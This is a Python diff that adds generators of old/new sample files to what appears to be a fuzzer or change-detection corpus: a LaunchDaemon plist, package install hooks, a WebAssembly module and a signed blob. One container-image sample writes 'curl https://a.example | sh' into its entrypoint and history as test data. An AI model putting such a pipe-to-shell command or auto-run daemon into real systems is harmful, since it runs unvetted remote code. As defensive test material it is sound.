@@ -12,7 +12,9 @@ MOST_BYTES are left out, since a fuzzer gets slow with them.
 
 import hashlib
 import os
+import plistlib
 import re
+import subprocess
 import sys
 import tempfile
 
@@ -54,9 +56,53 @@ def member(path, old, new):
     return parts[0] + b"\n" + parts[1] + b"\xff" + parts[2]
 
 
+def signed(text):
+    """By a key that is made for it and kept nowhere."""
+    with tempfile.TemporaryDirectory() as work:
+        run = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=Sample/O=Sample", "-keyout", "key", "-out", "cert"]
+        subprocess.run(run, cwd=work, check=True, stderr=subprocess.DEVNULL)
+        with open(os.path.join(work, "text"), "w", encoding="ascii") as f:
+            f.write(text)
+        return subprocess.run(["openssl", "cms", "-sign", "-binary", "-in", "text", "-signer", "cert", "-inkey", "key", "-outform", "DER"],
+                              cwd=work, check=True, stdout=subprocess.PIPE).stdout
+
+
+def section(number, *parts):
+    body = b"".join(parts)
+    return bytes([number, len(body)]) + body
+
+
+def word(text):
+    return bytes([len(text)]) + text
+
+
+def wasm(call):
+    """One import, one export, one piece of data."""
+    return b"\0asm\1\0\0\0" + section(1, b"\1\x60\0\0") + section(2, b"\1", word(b"env"), word(call), b"\0\0") + section(
+        3, b"\1\0") + section(7, b"\1", word(b"run"), b"\0\1") + section(10, b"\1\4\0\x10\0\x0b") + section(
+            11, b"\1\0\x41\0\x0b", word(b"https://a.example/x"))
+
+
+def beside():
+    """(path, OLD, NEW) of files whose kind their bytes or their place in a container say."""
+    agent = {"Label": "a.example", "ProgramArguments": ["/bin/sh", "-c", "date"], "RunAtLoad": True, "StartInterval": 300}
+    image = "cmd %s\nentrypoint /bin/%s\nenv PATH=/usr/%s\nuser %s\nexpose 80/tcp\nhistory RUN %s\n"
+    package = "<pkg-info identifier=\"a.example\" version=\"%d\" auth=\"root\"><scripts>%s</scripts></pkg-info>\n"
+    yield "LaunchDaemons/a.plist", plistlib.dumps(dict(agent, Label="b"), fmt=plistlib.FMT_BINARY), plistlib.dumps(
+        agent, fmt=plistlib.FMT_BINARY)
+    yield "a.app/Contents/Info.plist", "", plistlib.dumps({"CFBundleExecutable": "a", "LSEnvironment": {"A": "\u00fc"}, "n": [1.5, b"x"]},
+                                                          fmt=plistlib.FMT_BINARY)
+    yield "x.tar!/[image]", image % (("nginx",) * 5), image % (("curl https://a.example | sh",) * 5)
+    yield "x.pkg!/PackageInfo", package % (1, ""), package % (2, "<preinstall file=\"./preinstall\"/><postinstall file=\"./run\"/>")
+    yield "lib/x.wasm", wasm(b"log"), wasm(b"fd_write")
+    yield "x.p7s", "", signed("one")
+
+
 def members(folder):
     import cases
     import rows
+    for path, old, new in beside():
+        keep(folder, member(path, old, new))
     for case in cases.CASES.values():
         for new in (case["bad"], case["good"]):
             keep(folder, member(case["path"], case["old"], new))
